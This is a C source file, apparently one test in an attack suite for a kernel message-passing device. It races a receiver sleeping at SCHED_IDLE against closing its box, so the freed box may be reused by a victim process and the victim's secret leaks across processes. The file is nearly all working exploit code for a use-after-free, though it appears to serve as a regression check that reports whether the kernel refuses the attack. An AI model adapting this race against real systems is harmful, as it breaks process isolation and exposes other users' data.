// SPDX-License-Identifier: GPL-2.0-only
/*
 * Sleep in receive on a box, and let another thread close its last handle: the box is freed under
 * the sleeper. If the next box, a victim's, is made in the same memory before the sleeper looks
 * again, the sleeper receives from the victim's box, which it has no right to.
 *
 * That the sleeper looks late is no luck: it runs on the same processor with SCHED_IDLE, which any
 * user may choose, so that whoever else has something to do there comes first.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define TRIES	30

struct sleeper {
	int file;
	__u32 box;
	atomic_int tid;
	int result;
	char bytes[256];
};

static void *sleep_in_receive(void *argument)
{
	struct sched_param none = { };
	struct sleeper *sleeper = argument;

	sched_setscheduler(0, SCHED_IDLE, &none);
	atomic_store(&sleeper->tid, gettid());
	sleeper->result = parcel_receive(sleeper->file, sleeper->box, sleeper->bytes,
					 sizeof(sleeper->bytes), 0);
	return NULL;
}

static void wait_until_asleep(struct sleeper *sleeper)
{
	const struct timespec pause = { .tv_nsec = 1000 * 1000 };
	char path[64], state;
	FILE *stat;

	for (;;) {
		nanosleep(&pause, NULL);
		if (!atomic_load(&sleeper->tid))
			continue;
		snprintf(path, sizeof(path), "/proc/self/task/%d/stat", atomic_load(&sleeper->tid));
		stat = fopen(path, "r");
		if (!stat)
			could_not("%s: %s", path, error_name(errno));
		if (fscanf(stat, "%*d (%*[^)]) %c", &state) != 1)
			state = '?';
		fclose(stat);
		if (state == 'S')
			return;
	}
}

enum { SEND, FORGET };

/* The victim makes a private box, and sends its secret to itself. */
static long act(struct victim_state *state, int command)
{
	static __u32 box;

	if (command == FORGET) {
		box_unlink(state->file, box);
		return handle_close(state->file, box);
	}
	box = private_box(state->file);
	return parcel_send(state->file, box, state->secret, strlen(state->secret) + 1, NULL, 0);
}

int main(int argc, char **argv)
{
	struct sleeper sleeper;
	struct timespec limit;
	struct victim victim;
	char secret[SECRET_SIZE];
	pthread_t thread;
	int i;

	attack_begin(argc, argv);
	memset(&sleeper, 0, sizeof(sleeper));
	victim_start(&victim, act);
	victim_secret(&victim, secret);
	sleeper.file = device_open();

	for (i = 0; i < TRIES; i++) {
		sleeper.box = private_box(sleeper.file);
		atomic_store(&sleeper.tid, 0);
		if (pthread_create(&thread, NULL, sleep_in_receive, &sleeper))
			could_not("cannot make a thread");
		wait_until_asleep(&sleeper);

		must("unlink", box_unlink(sleeper.file, sleeper.box));
		must("close", handle_close(sleeper.file, sleeper.box));
		must("let the victim send", victim_do(&victim, SEND));

		clock_gettime(CLOCK_REALTIME, &limit);
		limit.tv_sec += 5;
		if (pthread_timedjoin_np(thread, NULL, &limit))
			could_not("the receiver sleeps on");
		if (sleeper.result > 0 && !strcmp(sleeper.bytes, secret))
			achieved("leaks", "received from another process's private box: \"%s\"",
				 sleeper.bytes);
		if (sleeper.result != 0)
			could_not("the receiver got %d", sleeper.result);
		must("let the victim clean up", victim_do(&victim, FORGET));
	}
	refused("the sleeping receiver saw the end of the stream, every time");
}
